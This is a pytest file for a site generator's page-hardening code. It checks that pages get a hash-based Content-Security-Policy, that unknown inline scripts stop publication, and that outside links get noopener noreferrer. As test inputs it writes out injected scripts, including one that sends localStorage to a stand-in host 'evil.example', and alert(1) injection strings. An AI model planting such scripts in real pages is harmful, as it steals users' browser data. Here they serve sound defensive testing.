"""The policy and link attributes written into every page (the browser tests show them at work)."""

from __future__ import annotations

import base64
import hashlib

import pytest

from generator.page_safety import (
    PLACEHOLDER,
    NoPlaceForPolicy,
    UnknownInlineScript,
    content_security_policy,
    harden,
    inline_script_hashes,
    is_known,
    mark_outside_links,
    unknown_inline_scripts,
)

SCOPE = (
    '__md_scope=new URL("../..",location),'
    '__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
    '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
    '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}'
)
TABS = (
    'var target=document.getElementById(location.hash.slice(1));'
    'target&&target.name&&(target.checked=target.name.startsWith("__tabbed_"))'
)
"""Two of the inline scripts Material 9 writes into every page, as it writes them."""
PAGE = f"""<head><meta http-equiv="Content-Security-Policy" content="{PLACEHOLDER}">
<script>{SCOPE}</script><script src="x.js"></script><script id="__config" type="application/json">{{"a": 1}}</script>
<script type="application/ld+json">{{}}</script></head><body><script>{SCOPE}</script><script>{TABS}</script></body>"""


def _hash(script: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() + "'"


def test_materials_inline_scripts_are_known_by_their_exact_text() -> None:
    assert is_known(SCOPE) and is_known(TABS) and is_known(SCOPE.replace('"../.."', '"https://example.org/site/"'))
    assert inline_script_hashes(PAGE) == [_hash(SCOPE), _hash(TABS)]
    for changed in (SCOPE + ";fetch('//evil.example')", SCOPE.replace('"../.."', '"x",location),alert(1),("'), "alert(1)", TABS[:-1], ""):
        assert not is_known(changed), changed


def test_the_policy_allows_this_site_and_the_known_scripts_only() -> None:
    policy = dict(rule.split(" ", 1) for rule in content_security_policy(PAGE).split("; "))
    assert policy["default-src"] == "'none'" and policy["object-src"] == "'none'"
    assert policy["script-src"] == f"'self' {_hash(SCOPE)} {_hash(TABS)}"
    assert "'unsafe-inline'" not in content_security_policy(PAGE) and "http" not in " ".join(policy.values())


def test_an_unknown_inline_script_gets_no_hash_and_stops_the_page() -> None:
    page = PAGE.replace("</body>", "<script>fetch('https://evil.example/'+localStorage.x)</script></body>")
    assert unknown_inline_scripts(page) == ["fetch('https://evil.example/'+localStorage.x)"]
    assert inline_script_hashes(page) == [_hash(SCOPE), _hash(TABS)]
    with pytest.raises(UnknownInlineScript, match="evil.example"):
        harden(page, "https://example.org/")


def test_harden_fills_the_placeholder_once() -> None:
    html = harden(PAGE + f"<p>{PLACEHOLDER}</p>", "https://example.org/site/")
    assert html.count(PLACEHOLDER) == 1 and f"<p>{PLACEHOLDER}</p>" in html
    assert "script-src 'self' 'sha256-" in html


def test_links_that_leave_the_site_get_noopener_noreferrer() -> None:
    html = mark_outside_links(
        '<a href="https://other.example/a">x</a><a class="k" href="http://other.example/b" rel="nofollow">y</a>'
        '<a href="https://example.org/site/page/">own</a><a href="../faq/">relative</a><a href="mailto:a@b.c">mail</a>'
        '<a href="https://other.example/c" rel="noreferrer noopener">done</a><abbr title="x">A</abbr>',
        "https://example.org/site/",
    )
    assert html == (
        '<a href="https://other.example/a" rel="noopener noreferrer">x</a>'
        '<a class="k" href="http://other.example/b" rel="nofollow noopener noreferrer">y</a>'
        '<a href="https://example.org/site/page/">own</a><a href="../faq/">relative</a><a href="mailto:a@b.c">mail</a>'
        '<a href="https://other.example/c" rel="noreferrer noopener">done</a><abbr title="x">A</abbr>'
    )


def test_only_the_live_preview_allows_inline_scripts() -> None:
    """MkDocs' reload script differs in every response of `serve`; no build ever gets this policy."""
    assert "script-src 'self' 'unsafe-inline';" in content_security_policy(PAGE, preview=True)
    assert "unsafe-inline" not in harden(PAGE, "https://example.org/")


def test_a_page_without_a_place_for_its_policy_is_not_published() -> None:
    """A site's own main.html that drops ours (no super() in site_meta) must not ship pages without a policy."""
    with pytest.raises(NoPlaceForPolicy, match="no place for its Content-Security-Policy"):
        harden(PAGE.replace(PLACEHOLDER, ""), "https://example.org/")
